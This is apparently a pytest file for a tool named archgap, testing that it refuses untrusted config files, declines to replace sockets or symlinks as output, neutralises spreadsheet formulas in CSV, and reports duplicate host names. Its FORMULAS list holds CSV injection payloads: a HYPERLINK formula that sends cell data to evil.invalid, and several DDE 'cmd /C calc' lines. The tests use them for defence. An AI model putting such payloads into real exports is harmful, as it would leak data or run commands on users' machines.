"""Hostile corpus: whose config archgap believes, what its output files replace, and what its
fleet reports let other people's documents say.

- **config**: a ``[tool.archgap]`` table decides a CI gate, so only the user's own decides it (git's
  safe.directory rule, CVE-2022-24765): the walk up from the cwd stops at a directory owned by
  another user (not root, not the effective user) and at a filesystem boundary; a file owned by
  another user (a link to one included) is passed over with a warning; a file that others, or a
  group other than its owner's private group, may write is refused (exit 2), never used. Owners
  and devices are what ``stat`` reports, shown to archgap.config as another user's (uid 65534)
  where the class says so, so each class runs the same as root or not.
- **outputs**: a file archgap is asked to write (``--prometheus``, ``--html``) replaces only a
  regular file; a FIFO or a character device is written to in place (as the shell's ``>``), the
  process's own ``/dev/stdout`` at its offset; a socket, or a link, is refused and left as it was
  (POSIX ``rename`` would replace the socket or the link itself; ``open`` would write through the
  link).
- **csv**: a cell that starts with ``=``, ``+``, ``-``, ``@`` (OWASP's formula characters; tab and
  CR are visible escapes before that) is read by a spreadsheet as a formula (CWE-1236): it gets a
  leading ``'``; a plain number keeps its value.
- **duplicates**: two documents that claim one host name are both judged, and every report says
  the name is claimed twice; a Prometheus series never adds their samples up (a 0/1 gauge of 2).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import threading
import types
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families

from archgap import config
from archgap.errors import UsageError
from tests.helpers import CUDA_BIN, install_fake_distribution, json_output, make_venv, run_cli

OTHER = 65534  # another user: nobody
ME = os.geteuid()


# --- config ---------------------------------------------------------------------------------------


class Shown:
    """``os`` as archgap.config sees it: paths listed in ``owners`` owned by that uid, those in
    ``devices`` on another device; everything else what the kernel says."""

    def __init__(self) -> None:
        self.owners: dict[str, int] = {}
        self.devices: set[str] = set()

    def _seen(self, path: str, info: os.stat_result) -> os.stat_result:
        fields = list(info)
        if path in self.owners:
            fields[stat.ST_UID] = self.owners[path]
        if path in self.devices:
            fields[stat.ST_DEV] = info.st_dev + 1
        return os.stat_result(fields)

    def module(self) -> types.SimpleNamespace:
        def shown_stat(path: str) -> os.stat_result:
            return self._seen(os.path.realpath(path), os.stat(path))

        def shown_fstat(fd: int) -> os.stat_result:
            return self._seen(os.readlink(f"/proc/self/fd/{fd}"), os.fstat(fd))

        names = {name: getattr(os, name) for name in dir(os) if not name.startswith("__")}
        return types.SimpleNamespace(**{**names, "stat": shown_stat, "fstat": shown_fstat})


class Tree:
    """A user's home with its own config (``require = ["H100"]``) and a place to work in."""

    def __init__(self, root: Path, shown: Shown) -> None:
        self.root, self.shown = root, shown
        self.user_config = root / "xdg" / "archgap" / "config.toml"
        self.user_config.parent.mkdir(parents=True)
        self.user_config.write_text('require = ["H100"]\n')
        self.user_config.chmod(0o644)

    def project(self, where: Path, table: str = "require = []\nstrict = false\n") -> Path:
        where.mkdir(parents=True, exist_ok=True)
        path = where / "pyproject.toml"
        path.write_text(f"[project]\nname = 'x'\n\n[tool.archgap]\n{table}")
        path.chmod(0o644)
        return path

    def another_users(self, path: Path) -> None:
        self.shown.owners[str(path.resolve())] = OTHER

    def discover(self, cwd: Path) -> config.Found:
        return config.discover(str(cwd), environ={"XDG_CONFIG_HOME": str(self.root / "xdg")})


def parent_dir_of_another_user(tree: Tree) -> Path:
    """/shared (another user's) holds a pyproject.toml; the user works in /shared/mine."""
    shared = tree.root / "shared"
    tree.project(shared)
    tree.another_users(shared)
    (shared / "mine").mkdir()
    return shared / "mine"


def cwd_of_another_user(tree: Tree) -> Path:
    """The user (root, an operator) runs archgap inside another user's checkout."""
    theirs = tree.root / "theirs"
    tree.project(theirs)
    tree.another_users(theirs)
    return theirs


def file_of_another_user(tree: Tree) -> Path:
    """A pyproject.toml another user left in a directory of the user's (or root's: /tmp)."""
    tree.another_users(tree.project(tree.root / "work"))
    return tree.root / "work"


def link_to_a_file_of_another_user(tree: Tree) -> Path:
    """pyproject.toml is the user's link to another user's file: the file is what is read."""
    theirs = tree.project(tree.root / "elsewhere")
    tree.another_users(theirs)
    (tree.root / "work").mkdir()
    (tree.root / "work" / "pyproject.toml").symlink_to(theirs)
    return tree.root / "work"


def across_a_filesystem_boundary(tree: Tree) -> Path:
    """The project's directory is a mount (a volume) below a directory that holds a config."""
    tree.project(tree.root / "host")
    volume = tree.root / "host" / "volume"
    volume.mkdir()
    tree.shown.devices.add(str(volume.resolve()))
    (volume / "src").mkdir()
    tree.shown.devices.add(str((volume / "src").resolve()))
    return volume / "src"


# (class id, the layout, the words the outcome says)
PASSED_OVER = [
    ("parent-dir-other-user", parent_dir_of_another_user, "stopped", "owned by uid 65534"),
    ("cwd-other-user", cwd_of_another_user, "stopped", "owned by uid 65534"),
    ("file-other-user", file_of_another_user, "ignored", "owned by uid 65534 (not you or root)"),
    ("link-to-other-users-file", link_to_a_file_of_another_user, "ignored", "owned by uid 65534"),
    ("filesystem-boundary", across_a_filesystem_boundary, "stopped", "another filesystem"),
]


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Tree:
    shown = Shown()
    monkeypatch.setattr(config, "os", shown.module())
    return Tree(tmp_path, shown)


@pytest.mark.parametrize(
    ("layout", "how", "words"), [pytest.param(*rest, id=cid) for cid, *rest in PASSED_OVER]
)
def test_config_class(tree: Tree, layout: Callable[[Tree], Path], how: str, words: str) -> None:
    """Another user's table never decides: the user's own config (``require = ["H100"]``)
    applies, and -v's line says where the walk stopped; a file passed over is named."""
    found = tree.discover(layout(tree))
    assert (found.path, found.table) == (str(tree.user_config), {"require": ["H100"]})
    if how == "stopped":
        assert words in found.stopped and not found.ignored
        assert found.describe() == (
            f"config: {tree.user_config} (user config; stopped at {found.stopped})"
        )
    else:
        assert len(found.ignored) == 1 and words in found.ignored[0]


def _group_not_private() -> int:
    """A group that is not the user's private group: one other than the user's primary
    group (nogroup), so its members may be anyone."""
    import pwd

    return OTHER if pwd.getpwuid(ME).pw_gid != OTHER else 0


@pytest.mark.parametrize(
    ("mode", "group", "words"),
    [
        pytest.param(0o666, None, "writable by others", id="world-writable-file"),
        pytest.param(0o664, "shared", "writable by group", id="group-writable-shared-group"),
    ],
)
def test_config_writable_by_others_is_refused_class(
    tmp_path: Path, mode: int, group: str | None, words: str
) -> None:
    """A config that others could rewrite decides nothing: ``kernels`` (with the gate the user
    meant: ``require = ["H100"]`` on a build with nothing for it, exit 1) stops with exit 2 and
    the reason, where it used the table before."""
    project = tmp_path / "project"
    (project / "build").mkdir(parents=True)
    path = project / "pyproject.toml"
    path.write_text('[tool.archgap]\nrequire = ["H100"]\n')
    if group:
        gid = _group_not_private()
        if ME == 0 or gid in os.getgroups():
            os.chown(path, -1, gid)
        else:  # a non-root user in no second group: others' write bit is the same rule
            mode |= 0o002
            words = "writable by"
    path.chmod(mode)
    done = subprocess.run(
        [sys.executable, "-m", "archgap", "kernels", "build", "-v"],
        capture_output=True, text=True, cwd=project, timeout=120, check=False,
        env={**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "xdg")},
    )  # fmt: skip
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"archgap: {path}: {words}" in done.stderr and "chmod go-w" in done.stderr
    path.chmod(0o644)  # the same file, the user's alone: the gate it sets holds (exit 1)
    again = subprocess.run(
        [sys.executable, "-m", "archgap", "kernels", "build", "-v"],
        capture_output=True, text=True, cwd=project, timeout=120, check=False,
        env={**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "xdg")},
    )  # fmt: skip
    assert again.returncode == 1, again.stderr
    assert f"archgap: config: {path} ([tool.archgap])" in again.stderr


def test_config_describes_none_for_a_command_that_reads_none(tmp_path: Path) -> None:
    found, values = config.settings("explain")
    assert (found.describe(), values) == ("config: none (explain reads no config file)", {})
    with pytest.raises(UsageError, match="not valid TOML"):
        config.discover(str(_broken(tmp_path)), environ={"HOME": str(tmp_path)})


def _broken(tmp_path: Path) -> Path:
    (tmp_path / "pyproject.toml").write_text("[tool.archgap\n")
    return tmp_path


# --- fleet documents (outputs, csv, duplicates) ---------------------------------------------------


@pytest.fixture(scope="module")
def document(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A real probe document: a venv with libmix.so (SASS sm_75 .. sm_120: nothing for a V100,
    7.0, so a gap there)."""
    venv = tmp_path_factory.mktemp("trust-venv") / "venv"
    install_fake_distribution(make_venv(venv), "fakekernels", "1.2.3",
                              {"fakekernels/libmix.so": CUDA_BIN / "libmix.so"})  # fmt: skip
    done = run_cli("probe", "--python", str(venv / "bin" / "python"))
    assert done.returncode == 0, done.stderr
    doc: dict[str, Any] = json.loads(done.stdout)
    return doc


def named(doc: dict[str, Any], host: str, packages: bool = True) -> str:
    copy = json.loads(json.dumps(doc))
    copy["target"] = copy["facts"]["host"] = host
    if not packages:
        copy["facts"]["sections"]["python"]["distributions"] = []
    return json.dumps(copy)


@pytest.fixture
def inbox(tmp_path: Path, document: dict[str, Any]) -> Path:
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "a.json").write_text(named(document, "node1"))
    return folder


def fleet(
    inbox: Path, *more: str, stdout: Any = subprocess.PIPE
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "archgap", "fleet", "--from", str(inbox), "--gpu", "V100", *more],
        stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=120, check=False,
    )  # fmt: skip


# --- outputs --------------------------------------------------------------------------------------


class Fifo:
    """A FIFO with a reader thread draining it; the test's own read-write descriptor keeps a
    reader there from the start (so a writer's open never waits) and ends the drain with a
    sentinel once archgap has exited."""

    END = b"\0archgap-test-end\0"

    def __init__(self, path: Path) -> None:
        os.mkfifo(path)
        self.path = path
        self.fd = os.open(path, os.O_RDWR)
        self.chunks: list[bytes] = []
        self.thread = threading.Thread(target=self._drain, daemon=True)
        self.thread.start()

    def _drain(self) -> None:
        while not b"".join(self.chunks).endswith(self.END):
            self.chunks.append(os.read(self.fd, 1 << 16))

    def received(self) -> bytes:
        os.write(self.fd, self.END)
        self.thread.join()
        os.close(self.fd)
        return b"".join(self.chunks)[: -len(self.END)]


def _fifo(tmp_path: Path, inbox: Path) -> None:
    pipe = Fifo(tmp_path / "metrics.prom")
    done = fleet(inbox, "--prometheus", str(pipe.path))
    got = pipe.received()
    assert done.returncode == 1, done.stderr  # the V100 gap
    assert stat.S_ISFIFO(os.lstat(pipe.path).st_mode)  # still the FIFO, not a file renamed over
    assert re.search(rb'archgap_host_up\{host="node1",environment="[^"]+",kind=""\} 1', got)
    assert not list(tmp_path.glob(".archgap-*"))


def _character_device(tmp_path: Path, inbox: Path) -> None:
    """/dev/null itself where a device node cannot be made (not root); as root one of its own
    (the same device, 1:3), so that no version of archgap under test can replace the system's."""
    node = tmp_path / "null"
    try:
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        node = Path("/dev/null")
    before = os.lstat(node)
    done = fleet(inbox, "--prometheus", str(node))
    assert done.returncode == 1, done.stderr
    after = os.lstat(node)
    assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)


def _own_stdout(tmp_path: Path, inbox: Path) -> None:
    """``--prometheus /dev/stdout`` with stdout a file: the metrics follow the report in that
    file (the descriptor, at its offset); /dev/stdout is still the link it was."""
    link = os.readlink("/dev/stdout")
    out = tmp_path / "out.txt"
    with out.open("w") as handle:
        done = fleet(inbox, "--format", "summary", "--prometheus", "/dev/stdout", stdout=handle)
    assert done.returncode == 1, done.stderr
    text = out.read_text()  # the metrics (written first), then the summary after them
    metrics, _, summary = text.partition("archgap fleet: ")
    assert metrics.startswith("# HELP")
    assert re.search(r'archgap_host_up\{host="node1",environment="[^"]+",kind=""\} 1', metrics)
    assert summary.startswith("1/1 hosts answered")
    assert os.readlink("/dev/stdout") == link


def _socket(tmp_path: Path, inbox: Path) -> None:
    path = tmp_path / "s.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    try:
        done = fleet(inbox, "--prometheus", str(path))
    finally:
        server.close()
    assert done.returncode == 2
    assert (
        done.stderr == f"archgap: --prometheus {path}: a socket: not replaced by an output file\n"
    )
    assert stat.S_ISSOCK(os.lstat(path).st_mode)


def _link(option: str) -> Callable[[Path, Path], None]:
    def check(tmp_path: Path, inbox: Path) -> None:
        victim = tmp_path / "victim.conf"
        victim.write_bytes(b"secret=1\n")
        victim.chmod(0o600)
        link = tmp_path / "out.link"
        link.symlink_to(victim)
        done = fleet(inbox, option, str(link))
        assert done.returncode == 2
        assert f"archgap: {option} {link}: a symbolic link (to {victim})" in done.stderr
        assert os.readlink(link) == str(victim)  # neither replaced ...
        assert victim.read_bytes() == b"secret=1\n"  # ... nor written through
        assert stat.S_IMODE(victim.stat().st_mode) == 0o600

    return check


OUTPUTS = [
    ("fifo-with-reader", _fifo),
    ("character-device", _character_device),
    ("dev-stdout-to-a-file", _own_stdout),
    ("unix-socket", _socket),
    ("prometheus-symlink", _link("--prometheus")),
    ("html-symlink", _link("--html")),
]


@pytest.mark.parametrize("check", [pytest.param(c, id=cid) for cid, c in OUTPUTS])
def test_output_file_class(
    tmp_path: Path, inbox: Path, check: Callable[[Path, Path], None]
) -> None:
    check(tmp_path, inbox)


# --- csv ------------------------------------------------------------------------------------------

FORMULAS = [
    ("equals", '=HYPERLINK("http://evil.invalid/?"&A1,"open")'),
    ("plus", "+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+9)*cmd|' /C calc'!A0"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("name", [pytest.param(n, id=cid) for cid, n in FORMULAS])
def test_csv_formula_class(tmp_path: Path, document: dict[str, Any], name: str) -> None:
    """A host name (and a package name, a column title) that starts like a formula is shown as
    text: ``'`` then the name itself; no cell of the file starts like a formula but a number."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    doc = json.loads(named(document, name))
    for dist in doc["facts"]["sections"]["python"]["distributions"]:
        dist["name"] = name
    (inbox / "a.json").write_text(json.dumps(doc))
    done = fleet(inbox, "--format", "csv")
    assert done.returncode == 1, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert [r[0] for r in rows[1:]] == ["'" + name]
    assert "'" + name in rows[0]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- duplicate host names -------------------------------------------------------------------------


def two_documents(folder: Path, doc: dict[str, Any]) -> None:
    """Two different machines' documents claim node1 (one has the package, one has none)."""
    (folder / "b.json").write_text(named(doc, "node1", packages=False))


def identical_copies(folder: Path, doc: dict[str, Any]) -> None:
    (folder / "b.json").write_text(named(doc, "node1"))


def answered_and_unreadable(folder: Path, doc: dict[str, Any]) -> None:
    """node1 answered, and a document under node1's name whose facts cannot be read."""
    broken = json.loads(named(doc, "node1"))
    broken["facts"]["sections"] = "not sections"
    (folder / "b.json").write_text(json.dumps(broken))


DUPLICATES = [
    ("two-documents-one-name", two_documents),
    ("identical-copies", identical_copies),
    ("answered-and-unreadable", answered_and_unreadable),
]


@pytest.mark.parametrize("add", [pytest.param(f, id=cid) for cid, f in DUPLICATES])
def test_duplicate_host_class(
    tmp_path: Path,
    inbox: Path,
    document: dict[str, Any],
    add: Callable[[Path, dict[str, Any]], None],
) -> None:
    """Every report says node1 is claimed twice; Prometheus has each label set once, node1 up
    at most 1, its gaps the worst document's (1: libmix.so on a V100), never a sum."""
    add(inbox, document)
    prom = tmp_path / "fleet.prom"
    text = fleet(inbox, "--prometheus", str(prom))
    assert text.returncode == 1, text.stderr
    assert "warning: host name node1 is claimed by more than one document" in text.stdout
    doc = json_output(fleet(inbox, "--json"), "fleet")
    assert doc["duplicate_hosts"] == ["node1"]
    samples = [  # every series also has the environment judged (one here: one interpreter)
        (s.name, tuple(sorted((k, v) for k, v in s.labels.items() if k != "environment")), s.value)
        for family in text_string_to_metric_families(prom.read_text())
        for s in family.samples
    ]
    keys = [(name, labels) for name, labels, _ in samples]
    assert len(keys) == len(set(keys))
    values = {(name, labels): value for name, labels, value in samples}
    assert values[("archgap_host_up", (("host", "node1"), ("kind", "")))] == 1
    assert values[("archgap_gaps", (("host", "node1"),))] == 1
    assert values[("archgap_host_documents", (("host", "node1"),))] == 2
    promtool = shutil.which("promtool")
    assert promtool, "promtool is not installed (Debian's prometheus package; scripts/services)"
    checked = subprocess.run([promtool, "check", "metrics"], input=prom.read_text(),
                             capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
    assert checked.returncode == 0, checked.stdout + checked.stderr
